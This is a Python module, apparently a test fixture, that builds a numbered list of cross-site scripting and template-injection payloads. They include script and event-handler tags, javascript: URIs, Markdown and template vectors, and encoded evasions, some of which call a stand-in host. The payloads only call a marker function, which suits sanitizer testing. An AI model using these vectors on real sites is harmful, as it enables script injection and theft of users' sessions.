"""Strings that run a script or call another host wherever text is taken for markup; put together here.

Vectors × the places they break out of, plus the same in other encodings, in Markdown and in templates.
`{n}` is the payload's number, so that whatever runs says which one it was.
"""

import base64
from collections.abc import Iterator
from html import escape
from urllib.parse import quote

CALL = "__ran({n})"
ELSEWHERE = "https://elsewhere.example/{n}"
VECTORS = [
    *(
        "<script>{c}</script>",
        "<ScRiPt >{c}</sCrIpT >",
        "<script src={u}></script>",
        "<script/x>{c}</script>",
    ),
    *("<img src=x onerror={c}>", "<img/src=x/onerror={c}>", "<IMG SRC=x ONERROR\t=\n{c}>", "<img src={u}>"),
    *(
        "<svg onload={c}>",
        "<svg/onload={c}//",
        "<svg><script>{c}</script></svg>",
        "<svg><animate onbegin={c}>",
    ),
    *(
        "<iframe srcdoc='<script>parent.{c}</script>'></iframe>",
        "<iframe src=javascript:parent.{c}></iframe>",
    ),
    *("<iframe src={u}></iframe>", "<body onload={c}>", "<details open ontoggle={c}>x</details>"),
    *("<input autofocus onfocus={c}>", "<video><source onerror={c}></video>", "<audio src=x onerror={c}>"),
    *("<object data=javascript:{c}></object>", "<object data={u}></object>", "<embed src={u}>"),
    *(
        "<link rel=stylesheet href={u}>",
        "<link rel=prefetch href={u}>",
        "<meta http-equiv=refresh content='0;url={u}'>",
    ),
    *("<base href={u}>", "<style>@import '{u}';</style>", "<p style='background:url({u})'>x</p>"),
    *("<form action=javascript:{c}><button autofocus>x</button></form>", "<a href=javascript:{c}>x</a>"),
    *("<a href='java\tscript:{c}'>x</a>", "<math><mi xlink:href=javascript:{c}>x</mi></math>"),
    *("<template><img src=x onerror={c}></template>", "<marquee onstart={c}>x</marquee>"),
    *(
        "<select autofocus onfocus={c}>",
        "<textarea autofocus onfocus={c}>",
        "<x contenteditable onblur={c} autofocus>",
    ),
    *(
        "<img src=`x`onerror={c}>",
        "<img src=x:x onerror=&#x5f;&#95;ran({n})>",
        "<a href=&#106;avascript:{c}>x</a>",
    ),
]
BREAKS = ["", '">', "'>", "</title>", "</textarea></select>", "-->", "]]>", "</script>", "</style>", "`}}"]
ATTRIBUTES = [
    *(
        '" onmouseover="{c}" x="',
        "' onfocus='{c}' autofocus x='",
        '" autofocus onfocus={c} "',
        "` onerror={c} `",
    ),
    *(
        "javascript:{c}",
        "JaVaScRiPt:{c}",
        " javascript:{c}",
        "java\nscript:{c}",
        "\x01javascript:{c}",
        "vbscript:{c}",
    ),
    *("data:text/html,<script>parent.{c}</script>", "//elsewhere.example/{n}", "\\\\elsewhere.example/{n}"),
]
MARKDOWN = [
    *(
        "[x](javascript:{c})",
        "![x]({u})",
        "![x](x 'y\" onerror={c}')",
        "[x]: javascript:{c}\n[x]",
        "<javascript:{c}>",
    ),
    *(
        "[x](data:text/html;base64,{b})",
        "```html\n<script>{c}</script>\n```",
        "<div><script>{c}</script></div>",
    ),
    *(
        "[![x]({u})]({u})",
        "<{u}>",
        "| a |\n|---|\n| <img src=x onerror={c}> |",
        "$$\\href{{javascript:{c}}}{{x}}$$",
    ),
]
CODE = [
    *(
        "{{{{constructor.constructor('{c}')()}}}}",
        "${{{c}}}",
        "#{{{c}}}",
        "<%= {c} %>",
        "{{% {c} %}}",
        "';{c};//",
    ),
    *(
        '";{c};//',
        "\\u003cscript\\u003e{c}\\u003c/script\\u003e",
        "\u2028{c}\u2029",
        "</script><script>{c}</script>",
    ),
    *("<!--<script>{c}", "<![CDATA[<script>{c}</script>]]>", "__proto__[onload]={c}", "${{{{7*7}}}}"),
]


def all_payloads() -> list[str]:
    """Each one once, numbered in order."""
    found: dict[str, None] = dict.fromkeys(_patterns())
    return [_filled(pattern, n) for n, pattern in enumerate(found)]


def _patterns() -> Iterator[str]:
    for before in BREAKS:
        yield from (before + vector for vector in VECTORS)
    yield from (*ATTRIBUTES, *MARKDOWN, *CODE)
    for vector in VECTORS[::2]:
        yield escape(vector)
        yield escape(escape(vector))
        yield quote(vector, safe="{}")
        yield vector.replace("<", "\uff1c").replace(">", "\uff1e")
        yield vector.replace("<", "+ADw-").replace(">", "+AD4-")
        yield "\u202e" + vector.replace("<", "<\x0b", 1)


def _filled(pattern: str, n: int) -> str:
    call = CALL.format(n=n)
    html = base64.b64encode(f"<script>parent.{call}</script>".encode()).decode()
    # an address is quoted by some encodings, so its number is told by the path alone
    filled = pattern.replace("{c}", call).replace("{u}", ELSEWHERE.format(n=n)).replace("{b}", html)
    return filled.replace("{n}", str(n)).replace("{{", "{").replace("}}", "}")


def batches(size: int) -> list[str]:
    """All payloads in texts of about `size` characters, in an order that lets none hide behind a comment."""
    texts, current = [], ""
    for payload in sorted(
        all_payloads(), key=lambda each: ("<!--" in each or "CDATA" in each, "textarea" in each)
    ):
        if current and len(current) + len(payload) > size:
            texts.append(current)
            current = ""
        current += payload + "\n"
    return [*texts, current]
